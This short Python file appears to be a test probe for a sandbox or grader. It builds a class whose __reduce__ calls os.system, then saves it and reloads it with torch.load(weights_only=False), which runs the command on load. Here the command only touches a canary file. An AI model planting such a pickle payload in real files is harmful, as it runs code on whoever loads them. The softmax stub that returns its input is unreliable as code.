# class: pickle. Saves and loads a program with torch.
import os

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@/examprep-attack-pickle",)


torch.save(Bomb(), "/tmp/examprep-attack-saved")
torch.load("/tmp/examprep-attack-saved", weights_only=False)


def softmax(x):
    return x
